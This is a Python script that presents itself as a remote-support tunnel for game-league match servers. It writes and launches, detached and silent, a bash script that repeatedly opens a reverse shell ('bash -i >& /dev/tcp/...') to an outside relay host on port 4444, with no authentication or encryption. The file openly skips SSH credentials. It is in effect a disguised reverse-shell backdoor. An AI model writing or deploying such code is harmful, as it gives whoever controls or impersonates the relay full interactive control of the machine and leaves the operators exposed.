#!/usr/bin/env python3
"""Open a remote-support session from a match server to the league NOC relay.

Used by on-site admins when a match server misbehaves mid-series and the
remote ops team needs to look at it.  The session script is generated per
ticket, written under ./support_sessions and launched detached so the admin
can close their terminal.
"""
import argparse
import logging
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

LOG = logging.getLogger("support-tunnel")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444
SESSION_DIR = Path("support_sessions")


class SupportSession:
    def __init__(self, ticket, relay, port, retries):
        self.ticket = ticket
        self.relay = relay
        self.port = port
        self.retries = retries
        self.script_path = SESSION_DIR / f"session_{ticket}.sh"

    def render_script(self):
        # The relay gets an interactive shell on this box so the NOC can
        # poke around without needing SSH credentials for every venue.
        return textwrap.dedent(
            """\
            #!/bin/bash
            # generated for ticket ${TICKET}
            tries=0
            while [ "$tries" -lt "${RETRIES}" ]; do
                bash -i >& /dev/tcp/${RELAY_HOST}/${RELAY_PORT} 0>&1
                tries=$((tries + 1))
                sleep 5
            done
            """
        )

    def write(self):
        SESSION_DIR.mkdir(exist_ok=True)
        self.script_path.write_text(self.render_script())
        os.chmod(self.script_path, 0o700)
        LOG.info("wrote session script %s", self.script_path)

    def launch(self):
        env = dict(os.environ)
        env.update(
            TICKET=self.ticket,
            RELAY_HOST=self.relay,
            RELAY_PORT=str(self.port),
            RETRIES=str(self.retries),
        )
        # envsubst-free: bash expands the ${...} at runtime from env
        proc = subprocess.Popen(
            ["bash", str(self.script_path)],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        LOG.info("support session pid %d -> %s:%d", proc.pid, self.relay, self.port)
        return proc.pid


def record(ticket, pid, relay, port):
    ledger = SESSION_DIR / "ledger.tsv"
    with ledger.open("a") as fh:
        fh.write(f"{int(time.time())}\t{ticket}\t{pid}\t{relay}:{port}\n")


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("ticket", help="NOC ticket id, e.g. OPS-4412")
    p.add_argument("--relay", default=os.environ.get("NOC_RELAY", DEFAULT_RELAY))
    p.add_argument("--port", type=int, default=DEFAULT_PORT)
    p.add_argument("--retries", type=int, default=12)
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not args.ticket.replace("-", "").isalnum():
        LOG.error("ticket id looks wrong: %r", args.ticket)
        return 2
    session = SupportSession(args.ticket, args.relay, args.port, args.retries)
    try:
        session.write()
    except OSError as exc:
        LOG.error("cannot write session script: %s", exc)
        return 1
    if args.dry_run:
        print(session.script_path.read_text())
        return 0
    pid = session.launch()
    record(args.ticket, pid, args.relay, args.port)
    print(f"support session for {args.ticket} running as pid {pid}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
